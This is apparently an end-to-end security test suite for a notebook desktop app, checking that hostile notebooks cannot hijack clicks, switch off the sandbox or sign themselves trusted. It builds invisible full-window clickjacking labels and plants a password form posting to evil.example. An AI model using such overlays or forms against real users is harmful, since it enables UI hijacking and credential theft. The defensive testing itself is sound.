// Outputs are contained and inert, in the real app: a notebook someone sent, whose stored
// outputs and Markdown lay a full-window, nearly invisible label over the app bound to its
// Run-all button, runs nothing when the person clicks anywhere; a kernel's live outputs
// cannot chain clicks that turn the sandbox off; drawn over the approval panel, an output
// stays inside its cell. Clicks are a person's (xdotool through the X server), not
// WebDriver's. Run by tests/e2e/run.sh.
import { test, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { App, answerDialog, notebook, personClick, quitAll, settled, windowOpen, workspace } from './webdriver.mjs';

const apps = [];
afterEach((t) => quitAll(apps, t));

/** A label over the whole window, bound to the app's control `id`. */
const cover = (id, text = 'x') =>
  `<label for="${id}" style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;opacity:0.02;background:#fff;display:block">${text}</label>`;

async function open(dir, args = []) {
  const app = await App.launch(['open', ...args, join(dir, 'test.ipynb')]);
  apps.push(app);
  await app.ready();
  await app.until('the kernel', async () => (await app.kernelStatus()) === 'idle', 60000);
  return app;
}

test('a stored hostile notebook clicked once runs nothing', async () => {
  const nb = notebook("open('ran.txt', 'w').write('ran')", '1 + 1');
  nb.cells[1].outputs = [{ output_type: 'display_data', metadata: {}, data: { 'text/html': cover('run-all'), 'text/plain': '' } }];
  nb.cells.push({ cell_type: 'markdown', id: 'md-0', metadata: {}, source: cover('run-all', 'Click to continue') });
  const ws = workspace({ 'test.ipynb': nb });
  const app = await open(ws);
  const mark = join(ws, 'ran.txt');
  for (const [x, y] of [[640, 400], [200, 300], [1000, 650]]) personClick(x, y);
  await new Promise((r) => setTimeout(r, 3000));
  assert.ok(!existsSync(mark), 'a click on the hostile output ran the notebook');
  const prompts = await app.execute('return [...document.querySelectorAll(".cell .prompt")].map((p) => p.textContent.trim());');
  assert.ok(prompts.every((p) => p === '' || p === '[ ]' || p === '[ ]:'), `no cell ran: ${prompts}`);
  // The label's text is still there to read, inside its output.
  const inside = await app.execute(`
    const o = document.querySelectorAll('.cell')[1].querySelector('.outputs');
    const r = o.getBoundingClientRect();
    const hit = document.elementFromPoint(640, 400);
    return { covers: !!hit && !!hit.closest('.outputs, .markdown'), height: r.height };`);
  assert.equal(inside.covers, false, 'the window centre belongs to the app, not to an output');
});

test('live outputs of a sandboxed kernel cannot switch the sandbox off', async () => {
  // The kernel's live output lays, one after the other, the labels of the clicks that once
  // turned the sandbox off: the sandbox switch, then Apply.
  const code = [
    'from IPython.display import HTML, display',
    'import time',
    `h = display(HTML(${JSON.stringify(cover('sandbox-on', 'step one'))}), display_id=True)`,
    'time.sleep(4)',
    `h.update(HTML(${JSON.stringify(cover('apply-sandbox', 'step two'))}))`,
    'time.sleep(20)',
  ].join('\n');
  const ws = workspace({ 'test.ipynb': notebook(code) });
  const app = await open(ws);
  // The sandbox chosen for this workspace, under ipybox's shipped kernel profile.
  await app.click('#sandbox-badge');
  await app.until('the policy editor', () => app.execute('return !!document.querySelector("#policy-source option[value=\'profile:kernel\']");'));
  // Chosen again until it holds: the tab may draw its choices anew while it loads.
  await app.until('the kernel profile chosen', () => app.execute(`
    const s = document.querySelector("#policy-source");
    if (s.value !== "profile:kernel") { s.value = "profile:kernel"; s.dispatchEvent(new Event("change")); return false; }
    return (document.querySelector("#policy-heading")?.textContent ?? "").includes("kernel");`), 20000);
  // The tab settles on the profile (its editor loads it) before the switch is turned on.
  await new Promise((r) => setTimeout(r, 1000));
  await app.click('#sandbox-on');
  assert.equal(await app.execute('return document.querySelector("#policy-source").value + " " + document.querySelector("#sandbox-on").checked;'), 'profile:kernel true');
  await app.click('#apply-sandbox');
  const applied = await app.until('Apply', () => app.execute(`
    const err = document.querySelector('#apply-error');
    if (err && !err.hidden) return 'error: ' + err.textContent;
    const s = document.querySelector('#apply-status')?.textContent ?? '';
    return s.startsWith('Applied') ? s : null;`), 120000);
  assert.match(applied, /^Applied/, applied);
  await app.until('the kernel', async () => (await app.kernelStatus()) === 'idle', 90000);
  assert.match(await app.text('#sandbox-policy-status'), /^Sandboxed/);

  await app.click('.cell[data-cell-id="cell-0"] .prompt');
  await app.click('#run-cell');
  const showing = (words) => app.until(words, () => app.execute('return (document.querySelector(".cell .outputs")?.textContent ?? "").includes(arguments[0]);', words), 30000);
  await showing('step one');
  personClick(640, 400); // on the label for the sandbox switch
  await showing('step two');
  const before = await app.text('#apply-status');
  personClick(640, 400); // on the label for Apply
  // Had a click reached Apply, the kernel would restart: wait for that, or 15 s of nothing.
  await app.until('an Apply to finish', () => app.execute(
    `const s = document.querySelector('#apply-status')?.textContent ?? '';
     return s !== arguments[0] && s.startsWith('Applied');`, before), 15000).catch(() => undefined);
  assert.ok(!windowOpen('Turn the sandbox off?'), 'no click reached the sandbox switch');
  assert.match(await app.text('#sandbox-policy-status'), /^Sandboxed/, 'still sandboxed');
});

test('an app ended by SIGTERM removes its link socket and secret', async () => {
  const { readdirSync, statSync } = await import('node:fs');
  const home = process.env.IPYBOX_HOME ?? join(process.env.HOME, '.local', 'share', 'ipybox');
  const runDirs = [join(home, 'run'), ...(process.env.XDG_RUNTIME_DIR ? [join(process.env.XDG_RUNTIME_DIR, 'ipybox')] : [])];
  const linkFiles = () => [
    ...readdirSync(join(home, 'workspaces')).map((d) => join(home, 'workspaces', d, 'desktop-link.secret')),
    ...runDirs.flatMap((r) => (existsSync(r) ? readdirSync(r).filter((n) => n.startsWith('desktop-')).map((n) => join(r, n)) : [])),
  ].filter((p) => existsSync(p));
  const ws = workspace({ 'test.ipynb': notebook('print(1)') });
  const t0 = Date.now() - 1000;
  const app = await open(ws);
  const made = await app.until('the link socket and secret', () => {
    const fresh = linkFiles().filter((p) => statSync(p).mtimeMs >= t0);
    return fresh.length >= 2 ? fresh : null;
  });
  const { spawnSync } = await import('node:child_process');
  spawnSync('pkill', ['-TERM', '-f', `ipybox open ${join(ws, 'test.ipynb')}`]);
  await app.until('the app to end', () => spawnSync('pgrep', ['-f', `ipybox open ${join(ws, 'test.ipynb')}`]).status !== 0, 20000);
  // Its WebDriver session is ended too, so the next test gets the driver.
  apps.pop();
  await app.quit();
  assert.deepEqual(made.filter((p) => existsSync(p)), [], 'nothing of the link is left behind');
});

test('a notebook from elsewhere shows its stored HTML as text until trusted in a native dialog; trusted, it opens trusted again', async () => {
  const { answerDialog: answer } = await import('./webdriver.mjs');
  // A text of its own: a notebook trusted in an earlier run would open trusted.
  const nb = notebook(`print(${Date.now()})`);
  nb.cells[0].outputs = [{ output_type: 'display_data', metadata: {}, data: { 'text/html': '<b id="bold">bold</b>', 'text/plain': 'bold' } }];
  nb.cells[0].execution_count = 1;
  const ws = workspace({ 'test.ipynb': nb });
  let app = await open(ws);
  const shown = () => app.execute('const o = document.querySelector(".cell .outputs"); return { text: !!o?.querySelector("pre.untrusted-source"), html: !!o?.querySelector("b"), banner: !(document.querySelector("#trust-banner")?.hidden ?? true) };');
  assert.deepEqual(await shown(), { text: true, html: false, banner: true }, 'untrusted: source text and a banner');
  await app.click('#trust-notebook');
  answer('Trust this notebook?', 'Escape', 30);
  await new Promise((r) => setTimeout(r, 500));
  assert.deepEqual(await shown(), { text: true, html: false, banner: true }, 'declined: still text');
  await app.click('#trust-notebook');
  // Return decides nothing in a native confirmation; its button's mnemonic does.
  answer('Trust this notebook?', 'Return', 30);
  await new Promise((r) => setTimeout(r, 500));
  assert.ok(windowOpen('Trust this notebook?'), 'Return left the question open');
  assert.deepEqual(await shown(), { text: true, html: false, banner: true }, 'Return trusted nothing');
  answer('Trust this notebook?', 'alt+t', 10);
  await app.until('the output rendered', async () => (await shown()).html);
  assert.equal((await shown()).banner, false);
  await app.quit();
  apps.pop();
  // Opened again: trusted (its signature is in ipybox's data directory, not in the file).
  app = await open(ws);
  assert.deepEqual(await shown(), { text: false, html: true, banner: false });
});

test('the page cannot sign a notebook: HTML no kernel here produced saves untrusted, whatever the page says', async () => {
  const { invoke, Keys } = await import('./webdriver.mjs');
  const { readFileSync } = await import('node:fs');
  const stamp = Date.now();
  const ws = workspace({ 'test.ipynb': notebook(`from IPython.display import HTML\ndisplay(HTML('<b id="made">made ${stamp}</b>'))`) });
  const app = await open(ws);
  await app.press(Keys.Shift, Keys.Enter);
  await app.until('the output', async () => app.execute('return document.querySelector(".cell .outputs b")?.textContent ?? "";').then((t) => t === `made ${stamp}`), 60000);
  await app.press(Keys.Control, 's');
  const file = join(ws, 'test.ipynb');
  const saved = await app.until('the save', () => {
    const text = readFileSync(file, 'utf8');
    return text.includes(`made ${stamp}`) ? text : null;
  });
  assert.equal(await invoke(app, 'notebook_trusted', { content: saved }), true, 'what a kernel here produced opens trusted');
  // A page that went wrong saves the same notebook with a form of its own in the output
  // and says every output in it is trusted: the app does not sign it.
  const planted = saved.replace(`<b id=\\"made\\">made ${stamp}</b>`, `<form action=\\"https://evil.example\\"><input name=pw></form>${stamp}`);
  assert.notEqual(planted, saved);
  await invoke(app, 'save_notebook', { path: join(ws, 'planted.ipynb'), content: planted, trusted: true });
  assert.equal(readFileSync(join(ws, 'planted.ipynb'), 'utf8'), planted, 'saved as asked');
  assert.equal(await invoke(app, 'notebook_trusted', { content: planted }), false, 'the page signed a notebook');
});
